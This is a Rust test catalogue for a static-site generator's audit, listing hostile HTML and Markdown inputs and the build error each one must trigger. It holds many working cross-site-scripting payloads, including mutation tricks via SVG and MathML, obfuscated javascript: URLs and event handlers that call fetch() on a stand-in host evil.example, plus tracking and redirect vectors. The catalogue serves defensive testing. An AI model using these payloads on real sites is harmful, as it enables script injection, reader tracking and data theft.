//! A catalogue of hostile sites: what an attacker would slip into a post,
//! a template or a copied file, and what a careless author pastes, each
//! case a tiny site of its own. Every case must fail the build with its
//! error at the exact place it was written (or, for tracking parameters,
//! build with a note there); the benign controls must build.
//!
//! The catalogue is data, so that `differential.rs` can show each case to
//! Chromium and compare what the browser fetches with what the audit said.
//! [`CASES`] are asserted by `cargo test`. [`FAILING`] holds the cases the
//! audit gets wrong today (it misses them, reports them elsewhere or with
//! a misleading message); each says what happens instead. They are kept
//! apart, not ignored: once the audit handles one, move it to [`CASES`].
//!
//! Other hosts are all below `.example` (the browser test sends them to a
//! logging server); `example.org` is the sites' own host. Posts are
//! `content/posts/a.md` with four lines of front matter, so their body
//! starts on line 5. Every site also has a harmless post and
//! `static/bild.png`.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

use crate::photos;
use crate::support::{theme_file, TestSite, PNG};

/// The contents of a file of a case.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Body {
    Text(&'static str),
    Bytes(&'static [u8]),
    /// Bytes computed when the site is written (other encodings, files
    /// of the built-in theme with a change).
    Made(fn() -> Vec<u8>),
}

impl Body {
    pub(crate) fn bytes(&self) -> Vec<u8> {
        match self {
            Body::Text(text) => text.as_bytes().to_vec(),
            Body::Bytes(bytes) => bytes.to_vec(),
            Body::Made(make) => make(),
        }
    }
}

/// What the build must say about a case.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Expect {
    /// The build fails with an error whose first line starts with
    /// `headline`, at `at` (`path:line:column`, or a path alone for a
    /// whole file).
    Fails {
        headline: &'static str,
        at: &'static str,
    },
    /// As `Fails`, and every error with that headline is at `at` (none
    /// blames another file).
    Only {
        headline: &'static str,
        at: &'static str,
    },
    /// The build succeeds with this note (or warning) at `at`, and the
    /// text `gone` is in no file of the output.
    Notes {
        headline: &'static str,
        at: &'static str,
        gone: &'static str,
    },
    /// A benign control: the build succeeds without warnings.
    Builds,
}

/// One hostile (or benign) site.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Case {
    /// Unique, lower case, usable as a host name label.
    pub name: &'static str,
    /// Files besides echt.yaml, the harmless post and static/bild.png (a
    /// case may replace echt.yaml).
    pub files: &'static [(&'static str, Body)],
    pub expect: Expect,
    /// For [`FAILING`]: what the audit does instead.
    pub wrong: &'static str,
}

impl Case {
    /// Whether the build must fail.
    pub(crate) fn must_fail(&self) -> bool {
        matches!(self.expect, Expect::Fails { .. } | Expect::Only { .. })
    }
}

const fn fails(headline: &'static str, at: &'static str) -> Expect {
    Expect::Fails { headline, at }
}

const fn notes(headline: &'static str, at: &'static str, gone: &'static str) -> Expect {
    Expect::Notes { headline, at, gone }
}

const fn only(headline: &'static str, at: &'static str) -> Expect {
    Expect::Only { headline, at }
}

const BUILDS: Expect = Expect::Builds;

macro_rules! case {
    ($name:literal, [$($file:expr),* $(,)?], $expect:expr $(,)?) => {
        Case { name: $name, files: &[$($file),*], expect: $expect, wrong: "" }
    };
}

// For a case the audit gets wrong: it goes into `FAILING` with what
// happens instead, until it is fixed.
#[allow(unused_macros)]
macro_rules! known {
    ($name:literal, [$($file:expr),* $(,)?], $expect:expr, $wrong:literal $(,)?) => {
        Case { name: $name, files: &[$($file),*], expect: $expect, wrong: $wrong }
    };
}

/// `content/posts/a.md` with `$body` from line 5 on.
macro_rules! post {
    ($body:expr) => {
        (
            "content/posts/a.md",
            Body::Text(concat!(
                "---\ntitle: \"A\"\ndate: 2024-01-01\n---\n",
                $body,
                "\n"
            )),
        )
    };
}

/// `templates/post.html`, a page of its own with `$head` on line 6 of
/// its head (the post's content follows on line 9).
macro_rules! head {
    ($head:expr) => {
        (
            "templates/post.html",
            Body::Text(concat!(
                "<!doctype html>\n<html lang=\"de\">\n<head>\n<meta charset=\"utf-8\">\n<title>{{ page.title }}</title>\n",
                $head,
                "\n</head>\n<body>\n{{ page.content | safe }}\n</body>\n</html>\n"
            )),
        )
    };
}

/// `templates/post.html` with `$body` on line 8, in the body, instead of
/// the post's content.
macro_rules! body {
    ($body:expr) => {
        (
            "templates/post.html",
            Body::Text(concat!(
                "<!doctype html>\n<html lang=\"de\">\n<head>\n<meta charset=\"utf-8\">\n<title>{{ page.title }}</title>\n</head>\n<body>\n",
                $body,
                "\n</body>\n</html>\n"
            )),
        )
    };
}

/// `templates/search.html`, the search page (`search: true`), a page of
/// its own with `$head` on line 6 of its head.
macro_rules! search_head {
    ($head:expr) => {
        (
            "templates/search.html",
            Body::Text(concat!(
                "<!doctype html>\n<html lang=\"de\">\n<head>\n<meta charset=\"utf-8\">\n<title>Suche</title>\n",
                $head,
                "\n</head>\n<body>\n<p>Suche</p>\n</body>\n</html>\n"
            )),
        )
    };
}

macro_rules! text {
    ($path:literal, $text:expr) => {
        ($path, Body::Text($text))
    };
}

macro_rules! config {
    ($extra:literal) => {
        (
            "echt.yaml",
            Body::Text(concat!(
                "title: Testblog\nbase_url: https://example.org/\nlanguage: de\nauthor:\n  name: Erika\n",
                $extra
            )),
        )
    };
}

const SCRIPT: &str = "error: `<script>` runs code in the reader's browser";
const PARSE: &str = "error: echt cannot be sure how browsers read this HTML";
const CSS_URL: &str =
    "error: CSS `url()` loads from another host, `evil.example`, which then learns who reads the page";
const NOT_HEAD: &str =
    "error: echt's Content-Security-Policy `<meta>` ends up outside `<head>`, where browsers ignore it";

fn phone_jpeg() -> Vec<u8> {
    photos::phone_jpeg()
}

fn jpeg_with_appended_gps() -> Vec<u8> {
    [photos::jpeg(&[]), photos::phone_jpeg()].concat()
}

fn jpeg_with_xmp_position() -> Vec<u8> {
    photos::jpeg(&[(1, photos::xmp_app1(photos::XMP_POSITION))])
}

fn jpeg_with_damaged_exif() -> Vec<u8> {
    let mut exif = photos::exif_app1(true);
    exif.truncate(60);
    photos::jpeg(&[(1, exif)])
}

fn jpeg_cut_off() -> Vec<u8> {
    let mut jpeg = photos::phone_jpeg();
    jpeg.truncate(jpeg.len() / 2);
    jpeg
}

fn png_with_gps() -> Vec<u8> {
    photos::png_with_exif(&photos::tiff(true, true))
}

fn webp_with_gps() -> Vec<u8> {
    photos::webp_with_exif(photos::tiff(true, false))
}

fn tiff_with_gps() -> Vec<u8> {
    photos::tiff(true, true)
}

fn tiff_damaged() -> Vec<u8> {
    let mut tiff = photos::tiff(true, false);
    tiff.truncate(70);
    tiff
}

fn heic_with_gps() -> Vec<u8> {
    photos::heic(true, false)
}

fn heic_with_xmp_position() -> Vec<u8> {
    photos::heic(false, true)
}

/// UTF-16 (little endian, with its byte order mark) of `text`.
fn utf16(text: &str) -> Vec<u8> {
    [0xFF, 0xFE]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect()
}

/// The theme's base.html without the link to the author's site.
fn base_without_author_link() -> Vec<u8> {
    let base = theme_file("templates/base.html");
    let link = "{% if site.author.url %}<a href=\"{{ site.author.url }}\">{{ site.author.name }}</a>{% else %}{{ site.author.name }}{% endif %}";
    assert!(base.contains(link), "the theme's author link moved");
    base.replace(link, "{{ site.author.name }}").into_bytes()
}

/// The cases the audit handles: asserted by `cargo test`.
pub(crate) const CASES: &[Case] = &[
    // `search: true` lets echt's search script run on the search page
    // alone, by its exact path; nothing else there, and not elsewhere.
    case!("search-page-builds", [config!("search: true\n")], BUILDS),
    case!(
        "search-page-own-script-only",
        [
            config!("search: true\n"),
            search_head!(r#"<script src="../search-index/search.js" defer></script>"#)
        ],
        BUILDS,
    ),
    case!(
        "search-page-inline-script",
        [
            config!("search: true\n"),
            search_head!(r#"<script>fetch("https://evil.example/search-page-inline-script")</script>"#)
        ],
        fails(
            "error: an inline `<script>` runs code in the reader's browser; the search page runs echt's search script alone",
            "templates/search.html:6:1"
        ),
    ),
    case!(
        "search-page-foreign-script",
        [
            config!("search: true\n"),
            search_head!(r#"<script src="https://cdn.example/search.js"></script>"#)
        ],
        fails(
            "error: `<script src>` loads code from another host, `cdn.example`",
            "templates/search.html:6:14"
        ),
    ),
    case!(
        "search-page-foreign-script-same-name",
        [
            config!("search: true\n"),
            search_head!(r#"<script src="//evil.example/search-index/search.js"></script>"#)
        ],
        fails(
            "error: `<script src>` loads code from another host, `evil.example`",
            "templates/search.html:6:14"
        ),
    ),
    case!(
        "search-page-other-own-script",
        [
            config!("search: true\n"),
            search_head!(r#"<script src="../favicon.svg"></script>"#)
        ],
        fails(SCRIPT, "templates/search.html:6:14"),
    ),
    case!(
        "search-script-on-another-page",
        [
            config!("search: true\n"),
            head!(r#"<script src="../../search-index/search.js"></script>"#)
        ],
        fails(SCRIPT, "templates/post.html:6:14"),
    ),
    case!(
        "search-script-without-search",
        [search_head!(r#"<script src="../search-index/search.js"></script>"#), head!(r#"<script src="../../search-index/search.js"></script>"#)],
        fails(SCRIPT, "templates/post.html:6:14"),
    ),
    // Scripts, in every spelling and vocabulary
    case!(
        "script-inline",
        [post!(r#"<script>fetch("https://evil.example/script-inline")</script>"#)],
        fails(SCRIPT, "content/posts/a.md:5:1"),
    ),
    case!(
        "script-src",
        [post!(r#"<script src="https://cdn.example/widget.js"></script>"#)],
        fails(
            "error: `<script src>` loads code from another host, `cdn.example`",
            "content/posts/a.md:5:14"
        ),
    ),
    case!(
        "script-mixed-case",
        [post!(r#"<ScRiPt>fetch("https://evil.example/mixed-case")</ScRiPt>"#)],
        fails(SCRIPT, "content/posts/a.md:5:1"),
    ),
    case!(
        "script-in-template-head",
        [head!(r#"<script src="https://cdn.example/analytics.js" async></script>"#)],
        fails(
            "error: `<script src>` loads code from another host, `cdn.example`",
            "templates/post.html:6:14"
        ),
    ),
    case!(
        "script-speculation-rules",
        [post!(
            r#"<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["https://evil.example/speculation"]}]}</script>"#
        )],
        fails(SCRIPT, "content/posts/a.md:5:1"),
    ),
    case!(
        "svg-script-href",
        [post!(r#"<svg><script href="https://cdn.example/svg.js"></script></svg>"#)],
        fails(
            "error: `<script src>` loads code from another host, `cdn.example`",
            "content/posts/a.md:5:20"
        ),
    ),
    case!(
        "svg-script-xlink-href",
        [post!(r#"<svg><script xlink:href="https://cdn.example/svg.js"></script></svg>"#)],
        fails(
            "error: `<script src>` loads code from another host, `cdn.example`",
            "content/posts/a.md:5:26"
        ),
    ),
    case!(
        "svg-script-typed",
        [post!(
            r#"<div><svg><script type="text/javascript">fetch("https://evil.example/svg-typed")</script></svg></div>"#
        )],
        fails(SCRIPT, "content/posts/a.md:5:11"),
    ),
    case!(
        "math-mtext-script",
        [post!(r#"<div><math><mtext><script>fetch("https://evil.example/mtext")</script></mtext></math></div>"#)],
        fails(SCRIPT, "content/posts/a.md:5:19"),
    ),
    case!(
        "math-script",
        [post!(r#"<p><math><mi>x</mi><script>fetch("https://evil.example/math")</script></math></p>"#)],
        fails(SCRIPT, "content/posts/a.md:5:20"),
    ),
    case!(
        "svg-foreignobject-script",
        [post!(
            r#"<div><svg><foreignObject><script>fetch("https://evil.example/foreign-object")</script></foreignObject></svg></div>"#
        )],
        fails(SCRIPT, "content/posts/a.md:5:26"),
    ),
    case!(
        "svg-desc-script",
        [post!(r#"<div><svg><desc><script>fetch("https://evil.example/desc")</script></desc></svg></div>"#)],
        fails(SCRIPT, "content/posts/a.md:5:17"),
    ),
    case!(
        "math-annotation-xml-script",
        [post!(
            r#"<div><math><annotation-xml encoding="text/html"><script>fetch("https://evil.example/annotation")</script></annotation-xml></math></div>"#
        )],
        fails(SCRIPT, "content/posts/a.md:5:49"),
    ),
    case!(
        "svg-breakout-script",
        [post!(r#"<div><svg><p><script>fetch("https://evil.example/breakout")</script></p></div>"#)],
        fails(SCRIPT, "content/posts/a.md:5:14"),
    ),
    case!(
        "srcdoc-script",
        [post!(
            r#"<iframe srcdoc="<script>fetch('https://evil.example/srcdoc')</script>"></iframe>"#
        )],
        fails(SCRIPT, "content/posts/a.md:5:17"),
    ),
    case!(
        "data-frame-script",
        [post!(
            r#"<iframe src="data:text/html,<script>fetch('https://evil.example/data-frame')</script>"></iframe>"#
        )],
        fails(SCRIPT, "content/posts/a.md:5:29"),
    ),
    case!(
        "static-html-script",
        [text!(
            "static/seite.html",
            "<!doctype html>\n<html lang=\"de\">\n<title>Seite</title>\n<p>Hallo</p>\n<script>fetch(\"https://evil.example/static\")</script>\n"
        )],
        fails(SCRIPT, "static/seite.html:5:1"),
    ),
    // Event handlers
    case!(
        "handler-img-onerror",
        [post!(r#"<img src="data:," onerror="fetch('https://evil.example/onerror')" alt="">"#)],
        fails(
            "error: the `onerror` attribute runs code in the reader's browser",
            "content/posts/a.md:5:19"
        ),
    ),
    case!(
        "handler-svg-onload",
        [post!(r#"<svg onload="fetch('https://evil.example/svg-onload')"></svg>"#)],
        fails(
            "error: the `onload` attribute runs code in the reader's browser",
            "content/posts/a.md:5:6"
        ),
    ),
    case!(
        "handler-second-body",
        [post!("Text.\n\n<body onload=\"fetch('https://evil.example/second-body')\">")],
        fails(
            "error: the `onload` attribute runs code in the reader's browser",
            "content/posts/a.md:7:7"
        ),
    ),
    case!(
        "handler-details-ontoggle",
        [post!(
            r#"<details open ontoggle="fetch('https://evil.example/ontoggle')"><summary>Mehr</summary>Text</details>"#
        )],
        fails(
            "error: the `ontoggle` attribute runs code in the reader's browser",
            "content/posts/a.md:5:15"
        ),
    ),
    case!(
        "handler-autofocus-onfocus",
        [post!(r#"<input autofocus onfocus="fetch('https://evil.example/onfocus')">"#)],
        fails(
            "error: the `onfocus` attribute runs code in the reader's browser",
            "content/posts/a.md:5:18"
        ),
    ),
    case!(
        "handler-mathml-onclick",
        [post!(r#"<math><mi onclick="fetch('https://evil.example/mi')">x</mi></math>"#)],
        fails(
            "error: the `onclick` attribute runs code in the reader's browser",
            "content/posts/a.md:5:11"
        ),
    ),
    case!(
        "handler-svg-animate-onbegin",
        [post!(
            r#"<svg><animate onbegin="fetch('https://evil.example/onbegin')" attributeName="x" dur="1s"/></svg>"#
        )],
        fails(
            "error: the `onbegin` attribute runs code in the reader's browser",
            "content/posts/a.md:5:15"
        ),
    ),
    case!(
        "handler-upper-case",
        [post!(r#"<p ONMOUSEOVER="fetch('https://evil.example/over')">Text</p>"#)],
        fails(
            "error: the `onmouseover` attribute runs code in the reader's browser",
            "content/posts/a.md:5:4"
        ),
    ),
    case!(
        "handler-slash-separated",
        [body!(r#"<img/src="data:,"/onerror="fetch('https://evil.example/slash')">"#)],
        fails(
            "error: the `onerror` attribute runs code in the reader's browser",
            "templates/post.html:8:19"
        ),
    ),
    case!(
        "handler-static-svg",
        [text!(
            "static/bild.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"\n     onload=\"fetch('https://evil.example/static-svg-onload')\">\n</svg>\n"
        )],
        fails(
            "error: the `onload` attribute runs code in the reader's browser",
            "static/bild.svg:2:14"
        ),
    ),
    // javascript: URLs
    case!(
        "js-href",
        [post!(r#"<a href="javascript:fetch('https://evil.example/js')">Klick</a>"#)],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:5:10"
        ),
    ),
    case!(
        "js-href-entities",
        [post!(r#"<a href="&#106;ava&#x73;cript&colon;fetch(1)">Klick</a>"#)],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:5:10"
        ),
    ),
    case!(
        "js-href-newline-entity",
        [post!(r#"<a href="java&#10;script:fetch(1)">Klick</a>"#)],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:5:10"
        ),
    ),
    case!(
        "js-href-split-by-line-break",
        [post!("<a href=\"java\nscript:fetch(1)\">Klick</a>")],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:5:10"
        ),
    ),
    case!(
        "js-href-spaces-and-case",
        [post!(r#"<a href="   JaVaScRiPt:fetch(1)">Klick</a>"#)],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:5:10"
        ),
    ),
    case!(
        "js-vbscript",
        [post!(r#"<a href="vbscript:msgbox(1)">Klick</a>"#)],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:5:10"
        ),
    ),
    case!(
        "js-area",
        [post!(r#"<map name="m"><area href="javascript:fetch(1)" alt="x"></map>"#)],
        fails(
            "error: a `javascript:` URL in `<area href>` runs code in the reader's browser",
            "content/posts/a.md:5:27"
        ),
    ),
    case!(
        "js-iframe-src",
        [post!(r#"<iframe src="javascript:fetch('https://evil.example/iframe-js')"></iframe>"#)],
        fails(
            "error: a `javascript:` URL in `<iframe src>` runs code in the reader's browser",
            "content/posts/a.md:5:14"
        ),
    ),
    case!(
        "js-form-action",
        [post!(r#"<form action="javascript:fetch(1)"><button>Los</button></form>"#)],
        fails(
            "error: a `javascript:` URL in `<form action>` runs code in the reader's browser",
            "content/posts/a.md:5:15"
        ),
    ),
    case!(
        "js-button-formaction",
        [post!(r#"<form><button formaction="javascript:fetch(1)">Los</button></form>"#)],
        fails(
            "error: a `javascript:` URL in `<button formaction>` runs code in the reader's browser",
            "content/posts/a.md:5:27"
        ),
    ),
    case!(
        "js-base-href",
        [post!(r#"<base href="javascript:fetch(1)//">"#)],
        fails(
            "error: a `javascript:` URL in `<base href>` runs code in the reader's browser",
            "content/posts/a.md:5:13"
        ),
    ),
    case!(
        "js-svg-a-href",
        [post!(r#"<svg><a href="javascript:fetch(1)"><text y="10">x</text></a></svg>"#)],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:5:15"
        ),
    ),
    case!(
        "js-svg-a-xlink-href",
        [post!(r#"<svg><a xlink:href="javascript:fetch(1)"><text y="10">x</text></a></svg>"#)],
        fails(
            "error: a `javascript:` URL in `<a xlink:href>` runs code in the reader's browser",
            "content/posts/a.md:5:21"
        ),
    ),
    case!(
        "js-math-href",
        [post!(r#"<math href="javascript:fetch(1)"><mi>x</mi></math>"#)],
        fails(
            "error: a `javascript:` URL in `<math href>` runs code in the reader's browser",
            "content/posts/a.md:5:13"
        ),
    ),
    case!(
        "js-mathml-mi-href",
        [post!(r#"<math><mi href="javascript:fetch(1)">x</mi></math>"#)],
        fails(
            "error: a `javascript:` URL in `<mi href>` runs code in the reader's browser",
            "content/posts/a.md:5:17"
        ),
    ),
    case!(
        "js-svg-animate-to",
        [post!(
            r#"<svg><a><animate attributeName="href" to="javascript:fetch(1)" dur="1s"/><text y="10">x</text></a></svg>"#
        )],
        fails(
            "error: a `javascript:` URL in `<animate to>` runs code in the reader's browser",
            "content/posts/a.md:5:43"
        ),
    ),
    case!(
        "js-markdown-link",
        [post!("Ein [Link](javascript:fetch(1)).")],
        fails(
            "error: a `javascript:` link runs code in the reader's browser",
            "content/posts/a.md:5:5"
        ),
    ),
    case!(
        "js-markdown-autolink",
        [post!("<javascript:fetch(1)>")],
        fails(
            "error: a `javascript:` link runs code in the reader's browser",
            "content/posts/a.md:5:1"
        ),
    ),
    case!(
        "js-front-matter-author",
        [(
            "content/posts/a.md",
            Body::Text("---\ntitle: \"A\"\ndate: 2024-01-01\nauthor:\n  name: Max\n  url: \"javascript:fetch(1)\"\n---\nText.\n")
        )],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "content/posts/a.md:6:9"
        ),
    ),
    case!(
        "js-static-svg-link",
        [text!(
            "static/karte.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">\n  <a xlink:href=\"javascript:fetch(1)\"><text y=\"10\">x</text></a>\n</svg>\n"
        )],
        fails(
            "error: a `javascript:` URL in `<a xlink:href>` runs code in the reader's browser",
            "static/karte.svg:2:18"
        ),
    ),
    // What HTML fetches by itself
    case!(
        "img-src",
        [post!(r#"<img src="https://img.example/pixel.gif" width="1" height="1" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "img-srcset",
        [post!(r#"<img src="/bild.png" srcset="/bild.png 1x, https://img.example/scharf.png 2x" alt="">"#)],
        fails("error: `<img srcset>` loads from another host, `img.example`", "content/posts/a.md:5:44"),
    ),
    case!(
        "img-srcset-no-spaces",
        [post!(r#"<img src="/bild.png" srcset="/bild.png 1x,https://img.example/eng.png 2x" alt="">"#)],
        fails("error: `<img srcset>` loads from another host, `img.example`", "content/posts/a.md:5:43"),
    ),
    case!(
        "img-srcset-single-candidate",
        [post!(r#"<img srcset="https://img.example/nur.png" alt="">"#)],
        fails(
            "error: `<img srcset>` loads from another host, `img.example`",
            "content/posts/a.md:5:14"
        ),
    ),
    case!(
        "img-lazy",
        [post!(r#"<img loading="lazy" src="https://img.example/lazy.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:26"),
    ),
    case!(
        "picture-source-srcset",
        [post!(r#"<picture><source srcset="https://img.example/bild.webp" type="image/webp"><img src="/bild.png" alt=""></picture>"#)],
        fails("error: `<source srcset>` loads from another host, `img.example`", "content/posts/a.md:5:26"),
    ),
    case!(
        "image-element",
        [post!(r#"<image src="https://img.example/image-element.png">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:13"),
    ),
    case!(
        "video-poster",
        [post!(r#"<video poster="https://img.example/poster.jpg" controls></video>"#)],
        fails("error: `<video poster>` loads from another host, `img.example`", "content/posts/a.md:5:16"),
    ),
    case!(
        "video-src",
        [post!(r#"<video src="https://evil.example/film.mp4" controls></video>"#)],
        fails("error: `<video src>` loads from another host, `evil.example`", "content/posts/a.md:5:13"),
    ),
    case!(
        "video-source-src",
        [post!(r#"<video controls><source src="https://evil.example/film.webm" type="video/webm"></video>"#)],
        fails("error: `<source src>` loads from another host, `evil.example`", "content/posts/a.md:5:30"),
    ),
    case!(
        "audio-src",
        [post!(r#"<audio src="https://evil.example/ton.mp3" controls></audio>"#)],
        fails("error: `<audio src>` loads from another host, `evil.example`", "content/posts/a.md:5:13"),
    ),
    case!(
        "track-src",
        [post!(r#"<video controls src="data:,"><track src="https://evil.example/untertitel.vtt" kind="captions" default></video>"#)],
        fails("error: `<track src>` loads from another host, `evil.example`", "content/posts/a.md:5:42"),
    ),
    case!(
        "input-image",
        [post!(r#"<form><input type="image" src="https://img.example/knopf.png" alt="Los"></form>"#)],
        fails("error: `<input src>` loads from another host, `img.example`", "content/posts/a.md:5:32"),
    ),
    case!(
        "iframe-src",
        [post!(r#"<iframe src="https://evil.example/player.html" title="Video"></iframe>"#)],
        fails("error: `<iframe src>` embeds a page from another host, `evil.example`", "content/posts/a.md:5:14"),
    ),
    case!(
        "frameset-frame",
        [text!(
            "templates/post.html",
            "<!doctype html>\n<html lang=\"de\">\n<head>\n<title>{{ page.title }}</title>\n</head>\n<frameset>\n<frame src=\"https://evil.example/frame.html\">\n</frameset>\n</html>\n"
        )],
        fails("error: `<frame src>` embeds a page from another host, `evil.example`", "templates/post.html:7:13"),
    ),
    case!(
        "form-action",
        [post!(r#"<form action="https://evil.example/formular"><input name="q"><button>Los</button></form>"#)],
        fails("error: `<form action>` sends what readers type to another host, `evil.example`", "content/posts/a.md:5:15"),
    ),
    case!(
        "input-formaction",
        [post!(r#"<form><input name="q"><input type="submit" formaction="https://evil.example/input"></form>"#)],
        fails("error: `<input formaction>` sends what readers type to another host, `evil.example`", "content/posts/a.md:5:56"),
    ),
    case!(
        "button-formaction",
        [post!(r#"<form><input name="q"><button formaction="https://evil.example/button">Los</button></form>"#)],
        fails("error: `<button formaction>` sends what readers type to another host, `evil.example`", "content/posts/a.md:5:43"),
    ),
    case!(
        "base-href",
        [post!("<base href=\"https://evil.example/\">\n\nText.")],
        fails("error: `<base href>` points to another host, `evil.example`", "content/posts/a.md:5:13"),
    ),
    case!(
        "base-href-template",
        [head!(r#"<base href="https://evil.example/">"#)],
        fails("error: `<base href>` points to another host, `evil.example`", "templates/post.html:6:13"),
    ),
    case!(
        "ping",
        [post!(r#"<a href="https://other.example/" ping="https://evil.example/ping">Weiter</a>"#)],
        fails("error: the `ping` attribute of `<a>` reports every click to `https://evil.example/ping`", "content/posts/a.md:5:40"),
    ),
    case!(
        "area-ping",
        [post!("<img src=\"/bild.png\" usemap=\"#m\" alt=\"\"><map name=\"m\"><area href=\"https://other.example/\" ping=\"https://evil.example/ping\" alt=\"x\" shape=\"default\"></map>")],
        fails("error: the `ping` attribute of `<area>` reports every click to `https://evil.example/ping`", "content/posts/a.md:5:97"),
    ),
    case!(
        "link-in-post",
        [post!(r#"<link rel="stylesheet" href="https://evil.example/post.css">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "content/posts/a.md:5:30"),
    ),
    // Meta refresh in all spellings
    case!(
        "refresh-url",
        [post!(r#"<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-bare-url",
        [post!(r#"<meta http-equiv="refresh" content="0 https://evil.example/bare">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-comma",
        [post!(r#"<meta http-equiv="Refresh" content="0,https://evil.example/comma">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-quoted-upper",
        [post!(r#"<meta http-equiv="REFRESH" content="0;URL='https://evil.example/quoted'">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-entities",
        [post!(r#"<meta http-equiv="refresh" content="0;url=https&#58;&#x2F;/evil.example/entities">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-protocol-relative",
        [post!(r#"<meta http-equiv="refresh" content="0; url = //evil.example/relative">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-invalid-url",
        [post!(r#"<meta http-equiv="refresh" content="0; url=http://[::1">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to `http://[::1`, which echt cannot tell is this site", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-url-with-a-space",
        [post!(r#"<meta http-equiv="refresh" content="0; url=https://evil.example well>">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:37"),
    ),
    case!(
        "refresh-template",
        [head!(r#"<meta http-equiv="refresh" content="0; url=https://evil.example/template">"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "templates/post.html:6:37"),
    ),
    // background on the elements that still take it
    case!(
        "background-body",
        [text!("templates/post.html", "<!doctype html>\n<html lang=\"de\">\n<head>\n<meta charset=\"utf-8\">\n<title>{{ page.title }}</title>\n</head>\n<body background=\"https://img.example/body.png\">\n{{ page.content | safe }}\n</body>\n</html>\n")],
        fails("error: `<body background>` loads from another host, `img.example`", "templates/post.html:7:19"),
    ),
    case!(
        "background-table",
        [post!(r#"<table background="https://img.example/table.png"><tr><td>x</td></tr></table>"#)],
        fails("error: `<table background>` loads from another host, `img.example`", "content/posts/a.md:5:20"),
    ),
    case!(
        "background-thead",
        [post!(r#"<table><thead background="https://img.example/thead.png"><tr><th>x</th></tr></thead></table>"#)],
        fails("error: `<thead background>` loads from another host, `img.example`", "content/posts/a.md:5:27"),
    ),
    case!(
        "background-tbody",
        [post!(r#"<table><tbody background="https://img.example/tbody.png"><tr><td>x</td></tr></tbody></table>"#)],
        fails("error: `<tbody background>` loads from another host, `img.example`", "content/posts/a.md:5:27"),
    ),
    case!(
        "background-tfoot",
        [post!(r#"<table><tfoot background="https://img.example/tfoot.png"><tr><td>x</td></tr></tfoot></table>"#)],
        fails("error: `<tfoot background>` loads from another host, `img.example`", "content/posts/a.md:5:27"),
    ),
    case!(
        "background-tr",
        [post!(r#"<table><tr background="https://img.example/tr.png"><td>x</td></tr></table>"#)],
        fails("error: `<tr background>` loads from another host, `img.example`", "content/posts/a.md:5:24"),
    ),
    case!(
        "background-td",
        [post!(r#"<table><tr><td background="https://img.example/td.png">x</td></tr></table>"#)],
        fails("error: `<td background>` loads from another host, `img.example`", "content/posts/a.md:5:28"),
    ),
    case!(
        "background-th",
        [post!(r#"<table><tr><th background="https://img.example/th.png">x</th></tr></table>"#)],
        fails("error: `<th background>` loads from another host, `img.example`", "content/posts/a.md:5:28"),
    ),
    // <link>: every rel that fetches, and unknown ones
    case!(
        "link-stylesheet",
        [head!(r#"<link rel="stylesheet" href="https://evil.example/stylesheet">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:30"),
    ),
    case!(
        "link-icon",
        [head!(r#"<link rel="icon" href="https://evil.example/icon">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:24"),
    ),
    case!(
        "link-apple-touch-icon",
        [head!(r#"<link rel="apple-touch-icon" href="https://evil.example/apple-touch-icon">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:36"),
    ),
    case!(
        "link-manifest",
        [head!(r#"<link rel="manifest" href="https://evil.example/manifest">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:28"),
    ),
    case!(
        "link-search",
        [head!(r#"<link rel="search" type="application/opensearchdescription+xml" title="Suche" href="https://evil.example/search">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:85"),
    ),
    case!(
        "link-preload",
